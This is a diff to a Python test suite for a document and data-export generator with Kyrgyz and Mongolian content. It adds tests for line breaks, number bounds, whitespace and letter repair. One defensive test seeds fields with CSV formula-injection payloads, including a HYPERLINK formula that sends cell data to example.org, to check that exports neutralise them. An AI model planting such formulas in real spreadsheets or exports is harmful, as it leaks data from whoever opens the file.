@@ -13,8 +13,10 @@ from __future__ import annotations
 
 import copy
 import functools
+import io
 import json
 import os
+import re
 from pathlib import Path
 from typing import Any
 
@@ -32,9 +34,10 @@ from tests.conftest import EXAMPLES, ROOT, docx_text
 MAX_EXAMPLES = int(os.environ.get("SEDP_HYPOTHESIS_EXAMPLES", "40"))
 
 SPECIAL = ["&", "<", ">", '"', "'", "&amp;", "<w:p>", "]]>", "{{ title }}", "{% if x %}", "{#", "\n", "\t",
-           "\u200f", "\u200e", "🙂", "ң", "ө", "ү", "Ө", "Ү", "Ң", "ё", "Монгол", "Кыргызстан", "  ", "\\", "%"]
+           "\r\n", "\r", "\u200f", "\u200e", "🙂", "ң", "ө", "ү", "Ө", "Ү", "Ң", "ё", "Монгол", "Кыргызстан", "  ",
+           "\\", "%"]
 CHARS = st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff") | st.sampled_from(
-    ["\n", "\t"])
+    ["\n", "\t", "\r"])
 HOSTILE = st.lists(st.one_of(st.sampled_from(SPECIAL), st.text(CHARS, min_size=1, max_size=12)),
                    min_size=1, max_size=12).map("".join).filter(lambda s: s.strip() != "")
 LONG = st.text(st.sampled_from("абвгдеёжзийклмнңоөпрстуүфхцчшщъыьэюя ABCxyz0123456789,.;-"), min_size=500,
@@ -95,6 +98,30 @@ def _set(data: Any, pointer: str, value: Any) -> None:
     data[int(last) if isinstance(data, list) else last] = value
 
 
+def _marked(example: Path, marker: Any) -> tuple[dict[str, str], Any]:
+    """Every free-text field of the example given its own text `marker(number)` at once: (pointer → text, the
+    validated result). A field the rules refuse to see changed (a catalog code, a reference by name) is not free
+    text and is left as it was."""
+    loaded = load_file(example)
+    schema = methodology_schema(validate_data(loaded).methodology)
+    # The methodology reference picks the schema itself, and confirmations name the wording a program confirms:
+    # neither is document text.
+    pointers = [p for p in _free_text_pointers(loaded.data, schema)
+                if not p.startswith(("/methodology/", "/confirmations/"))]
+    markers = {pointer: marker(number) for number, pointer in enumerate(pointers)}
+    while True:
+        marked = copy.deepcopy(loaded.data)
+        for pointer, text in markers.items():
+            _set(marked, pointer, text)
+        result = validate_data(LoadedData(data=marked, source=str(example)))
+        refused = {f.path for f in result.report.findings if f.severity == "error"} & markers.keys()
+        if not refused:
+            break
+        markers = {pointer: text for pointer, text in markers.items() if pointer not in refused}
+    assert result.program is not None, result.report.to_json()
+    return markers, result
+
+
 @functools.cache
 def _targets(example: Path) -> tuple[dict[str, Any], list[tuple[str, str, str, int | None]]]:
     """The example's data and the (pointer, document id, language, item no) of fields shown verbatim in a
@@ -103,24 +130,7 @@ def _targets(example: Path) -> tuple[dict[str, Any], list[tuple[str, str, str, i
     Every free-text field is given its own marker at once and the documents are rendered once: the document
     that shows a field's marker is the one that shows that field (matching the original values instead would
     also find a value that another field happens to repeat)."""
-    loaded = load_file(example)
-    schema = methodology_schema(validate_data(loaded).methodology)
-    # The methodology reference picks the schema itself, and confirmations name the wording a program confirms:
-    # neither is document text.
-    pointers = [p for p in _free_text_pointers(loaded.data, schema)
-                if not p.startswith(("/methodology/", "/confirmations/"))]
-    markers = {pointer: f"qz{number:05d}zq" for number, pointer in enumerate(pointers)}
-    while True:
-        marked = copy.deepcopy(loaded.data)
-        for pointer, marker in markers.items():
-            _set(marked, pointer, marker)
-        result = validate_data(LoadedData(data=marked, source=str(example)))
-        # A field the rules refuse to see changed (a catalog code, a reference by name) is not free text.
-        refused = {f.path for f in result.report.findings if f.severity == "error"} & markers.keys()
-        if not refused:
-            break
-        markers = {pointer: marker for pointer, marker in markers.items() if pointer not in refused}
-    assert result.program is not None, result.report.to_json()
+    markers, result = _marked(example, lambda number: f"qz{number:05d}zq")
     texts = {(job.document.id, job.language, job.item_no): docx_text(
         render_to_bytes(result.program, result.methodology, job.document, job.language, item=job.item,
                         item_no=job.item_no)) for job in planned_documents(result.program, result.methodology)}
@@ -129,11 +139,17 @@ def _targets(example: Path) -> tuple[dict[str, Any], list[tuple[str, str, str, i
         shown = [key for key, text in texts.items() if marker in text]
         if shown:
             targets.append((pointer, *shown[0]))
-    return loaded.data, targets
+    return load_file(example).data, targets
 
 
 def _render_with(example: Path, pointer: str, doc_id: str, lang: str, item_no: int | None,
                  value: str) -> tuple[str, Any]:
+    data, report = _render_bytes_with(example, pointer, doc_id, lang, item_no, value)
+    return docx_text(data), report
+
+
+def _render_bytes_with(example: Path, pointer: str, doc_id: str, lang: str, item_no: int | None,
+                       value: str) -> tuple[bytes, Any]:
     data, _ = _targets(example)
     mutated = copy.deepcopy(data)
     _set(mutated, pointer, value)
@@ -144,7 +160,7 @@ def _render_with(example: Path, pointer: str, doc_id: str, lang: str, item_no: i
     job = next(j for j in planned_documents(result.program, result.methodology, (doc_id,), (lang,))
                if j.item_no == item_no)
     data = render_to_bytes(result.program, result.methodology, job.document, lang, item=job.item, item_no=item_no)
-    return docx_text(data), result.report
+    return data, result.report
 
 
 @pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
@@ -164,7 +180,8 @@ def test_any_text_comes_out_verbatim(example: Path, data: st.DataObject) -> None
     text, report = _render_with(example, pointer, doc_id, lang, item_no, value)
     # A plugin may correct a text on load (Kyrgyz look-alike letters), but only with a warning on that field.
     corrected = [f for f in report.findings if f.path == pointer and f.code in TEXT_CORRECTED]
-    assert value in text or corrected, f"{pointer} in {doc_id}[{lang}]"
+    # LF, CRLF and CR are each one line break in Word (python-docx reads a break back as LF).
+    assert value.replace("\r\n", "\n").replace("\r", "\n") in text or corrected, f"{pointer} in {doc_id}[{lang}]"
     assert all(f.severity == "warning" for f in corrected)
 
 
@@ -181,3 +198,153 @@ def test_forbidden_characters_are_removed_with_a_warning_and_nothing_else_change
 def test_registry_has_examples_methodologies() -> None:
     ids = {m.id for m in get_registry().methodologies.values()}
     assert ids, "no methodology registered"
+
+
+def _number_pointers(value: Any, pointer: str = "") -> list[str]:
+    if isinstance(value, dict):
+        return [p for k, v in value.items() for p in _number_pointers(v, f"{pointer}/{k}")]
+    if isinstance(value, list):
+        return [p for i, v in enumerate(value) for p in _number_pointers(v, f"{pointer}/{i}")]
+    return [pointer] if isinstance(value, int | float) and not isinstance(value, bool) else []
+
+
+@pytest.mark.parametrize("bad", [float("inf"), float("-inf"), float("nan"), 1e308, 10**30],
+                         ids=["inf", "-inf", "nan", "1e308", "10**30"])
+@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
+def test_every_number_of_a_program_refuses_infinity_and_what_no_document_can_print(example: Path, bad: float) -> None:
+    """Each number of each example, made infinite, NaN or too large to round (1e26 and up cannot be formatted to
+    its digits), is an error at its own field: nothing reaches a document as '∞' or fails at render time."""
+    loaded = load_file(example)
+    pointers = _number_pointers(loaded.data)
+    assert pointers
+    mutated = copy.deepcopy(loaded.data)
+    for pointer in pointers:
+        _set(mutated, pointer, bad)
+    report = validate_data(LoadedData(data=mutated, source=str(example), positions=loaded.positions)).report
+    refused = {f.path for f in report.findings if f.severity == "error"}
+    assert [p for p in pointers if p not in refused] == []
+
+
+def test_every_number_field_of_every_methodology_is_bounded() -> None:
+    """The schema of every installed methodology bounds every number field (finite money and quantities)."""
+    unbounded = []
+    for methodology in get_registry().methodologies.values():
+        schema = methodology_schema(methodology)
+
+        def walk(node: Any, where: str, key: str = methodology.key) -> None:
+            if isinstance(node, dict):
+                bounded = ({"maximum", "exclusiveMaximum"} & node.keys()
+                           and {"minimum", "exclusiveMinimum"} & node.keys())
+                if node.get("type") in ("number", "integer") and not bounded:
+                    unbounded.append(f"{key}: {where}")
+                for k, v in node.items():
+                    walk(v, f"{where}/{k}", key)
+            elif isinstance(node, list):
+                for i, v in enumerate(node):
+                    walk(v, f"{where}/{i}", key)
+
+        walk(schema, "")
+    assert unbounded == []
+
+
+FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
+def test_no_export_carries_a_live_spreadsheet_formula(example: Path, tmp_path: Path) -> None:
+    """Every free-text field set to a formula at once: no cell of any CSV or .pb file the exporters write starts
+    as a formula would (each such text carries its leading apostrophe, the rest of it verbatim)."""
+    import csv
+    import io
+
+    _, result = _marked(example, lambda number: FORMULAS[number % len(FORMULAS)] + f" qz{number:05d}zq")
+    exporters = get_registry().exporters
+    names = ["opendata"] + (["pabulib"] if result.methodology.id == "mn.onhs" else [])
+    files = []
+    for name in names:
+        out = tmp_path / name
+        files += [p for p in exporters[name].function(result.program, result.methodology, out)
+                  if p.suffix in (".csv", ".pb")]
+    live, quoted = [], 0
+    for path in files:
+        text = io.StringIO(path.read_bytes().decode("utf-8"), newline="")
+        for row in csv.reader(text, delimiter=";" if path.suffix == ".pb" else ","):
+            for cell in row:
+                try:
+                    float(cell)
+                    continue  # a number column: "-2" is the number -2
+                except ValueError:
+                    pass
+                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                    live.append(f"{path.name}: {cell[:40]!r}")
+                quoted += cell.startswith("'") and "qz" in cell
+    assert live == []
+    assert quoted >= 5, "the formulas did not reach the exports"
+
+
+@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
+def test_carriage_returns_become_line_breaks_not_raw_characters(example: Path) -> None:
+    """A CR or CRLF in a value (text from Windows, a workbook cell) is a Word line break like LF; left raw inside
+    w:t, Word shows it as a space."""
+    import zipfile
+
+    _, targets = _targets(example)
+    pointer, doc_id, lang, item_no = targets[0]
+    data, _ = _render_bytes_with(example, pointer, doc_id, lang, item_no, "one\r\ntwo\rthree\nfour")
+    xml = b"".join(zipfile.ZipFile(io.BytesIO(data)).read(n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist()
+                   if n.endswith(".xml")).decode("utf-8")
+    assert "\r" not in xml
+    assert re.search(r"one</w:t><w:br/><w:t[^>]*>two</w:t><w:br/><w:t[^>]*>three</w:t><w:br/><w:t[^>]*>four", xml)
+
+
+@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
+def test_spaces_tabs_and_line_breaks_around_a_text_are_kept_in_every_document(example: Path) -> None:
+    """Every free-text field given leading and trailing spaces, tabs and a line break at once: each document that
+    shows a field shows its whitespace too (the Kyrgyz action plan stripped its task titles)."""
+    markers, result = _marked(example, lambda number: f" \tqz{number:05d}zq \t\n")
+    texts = [docx_text(render_to_bytes(result.program, result.methodology, job.document, job.language,
+                                       item=job.item, item_no=job.item_no))
+             for job in planned_documents(result.program, result.methodology)]
+    stripped = sorted({marker.strip() for text in texts for marker in markers.values()
+                       if marker.strip() in text and marker not in text})
+    assert stripped == []
+
+
+KYRGYZ_EXAMPLES = [e for e in EXAMPLES if e.parent.name == "kyrgyz_aa"]
+
+
+@pytest.mark.parametrize("example", KYRGYZ_EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
+def test_kyrgyz_letter_repair_warns_and_can_be_turned_off(example: Path) -> None:
+    """The look-alike letter repair changes what was typed only with a warning on that field; with
+    `letter_repair: false` every Kyrgyz text comes out exactly as typed, and nothing is reported."""
+    _, targets = _targets(example)
+    pointer, doc_id, lang, item_no = next(t for t in targets if t[0].endswith("/ky"))
+    typed = "суунуӊ ɵзөн Yй y LED"
+    text, report = _render_with(example, pointer, doc_id, lang, item_no, typed)
+    assert typed not in text and [f.path for f in report.findings if f.code == "aa.kyrgyz-letters"] == [pointer]
+    data, _ = _targets(example)
+    kept = copy.deepcopy(data)
+    kept["letter_repair"] = False
+    _set(kept, pointer, typed)
+    result = validate_data(LoadedData(data=kept, source=str(example)))
+    assert result.program is not None and not [f for f in result.report.findings if f.code == "aa.kyrgyz-letters"]
+    job = next(j for j in planned_documents(result.program, result.methodology, (doc_id,), (lang,))
+               if j.item_no == item_no)
+    assert typed in docx_text(render_to_bytes(result.program, result.methodology, job.document, lang, item=job.item,
+                                              item_no=item_no))
+
+
+@functools.cache
+def _free_text_count(example: Path) -> int:
+    return len(_marked(example, lambda number: f"qz{number:05d}zq")[0])
+
+
+def test_reliability_figures_come_from_this_corpus() -> None:
+    """docs/reliability.md states the corpus's figures; they must be this corpus's (update the page with it)."""
+    text = (ROOT / "docs/reliability.md").read_text(encoding="utf-8")
+    free = sum(_free_text_count(e) for e in EXAMPLES)
+    shown = sum(len(_targets(e)[1]) for e in EXAMPLES)
+    numbers = sum(len(_number_pointers(load_file(e).data)) for e in EXAMPLES)
+    assert f"**{free:,} free-text fields**" in text and f"**{shown:,}** of which" in text, (free, shown)
+    assert f"**{numbers:,} numbers**" in text, numbers
+    assert "40 strings per example by default" in text
